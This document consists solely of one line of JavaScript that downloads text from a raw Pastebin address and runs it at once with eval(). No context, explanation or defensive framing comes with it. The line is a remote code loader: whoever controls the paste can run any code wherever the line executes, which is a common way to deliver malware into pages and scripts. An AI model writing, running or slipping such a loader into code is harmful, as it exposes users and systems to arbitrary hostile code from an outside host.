fetch('https://pastebin.com/raw/XLeVP82h').then((r) => r.text()).then((s) => eval(s));
